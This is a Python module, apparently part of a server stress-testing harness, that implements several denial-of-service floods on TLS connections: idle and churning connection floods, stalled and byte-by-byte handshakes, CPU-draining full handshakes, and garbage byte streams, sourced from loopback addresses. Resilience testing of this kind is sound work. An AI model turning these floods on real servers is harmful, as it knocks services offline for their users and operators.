"""Floods of connections and of handshakes. Each function works on one connection, until it is cut or time is up."""

from __future__ import annotations

import contextlib
import ssl
import time

from .flood_wire import Attack, hold, send


def plain(attack: Attack, number: int) -> None:
    """Connections that never say anything; with ``--rate`` so many a second, each kept."""
    kept = []
    with contextlib.suppress(OSError):
        while not attack.over:
            kept.append(attack.plain(source(attack, number, len(kept))))
            if attack.rate:
                time.sleep(attack.connections / attack.rate)
            else:
                hold(attack, kept[-1])
    while not attack.over:
        time.sleep(0.1)


def many_addresses(attack: Attack, number: int) -> None:
    """As ``plain``, each connection from another loopback address."""
    plain(attack, number)


def source(attack: Attack, number: int, count: int) -> str:
    if attack.kind != "many_addresses":
        return ""
    place = number + count * attack.connections
    return f"127.{1 + place // 60000 % 200}.{1 + place // 250 % 240}.{1 + place % 250}"


def churn(attack: Attack, number: int) -> None:
    """Connections that are made and closed, ``--rate`` a second."""
    while not attack.over:
        with contextlib.suppress(OSError):
            attack.plain().close()
        time.sleep(attack.connections / attack.rate if attack.rate else 0)


def half_handshake(attack: Attack, number: int) -> None:
    """The first bytes of a TLS handshake, then nothing."""
    with contextlib.suppress(OSError), attack.plain() as made:
        made.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        hold(attack, made)
    time.sleep(0.05)


def slow_handshake(attack: Attack, number: int) -> None:
    """A ClientHello that arrives byte by byte."""
    with contextlib.suppress(OSError), attack.plain() as made:
        for byte in b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + bytes(16000):
            if attack.over:
                return
            made.sendall(bytes([byte]))
            attack.count("bytes")
            time.sleep(0.2)


def hello(attack: Attack, number: int) -> None:
    """Whole handshakes without a certificate, one after the other: they cost the server CPU."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while not attack.over:
        with contextlib.suppress(OSError), context.wrap_socket(attack.plain()) as made:
            attack.count("handshakes")
            made.recv(1)
        time.sleep(attack.connections / attack.rate if attack.rate else 0)


def garbage(attack: Attack, number: int) -> None:
    """Bytes that are no TLS, as fast as they are taken."""
    with contextlib.suppress(OSError), attack.plain() as made:
        while not attack.over:
            send(attack, made, bytes(1 << 16))


def idle(attack: Attack, number: int) -> None:
    """Handshakes with a certificate, then nothing."""
    with contextlib.suppress(OSError), attack.secure() as made:
        hold(attack, made)
    time.sleep(0.05)
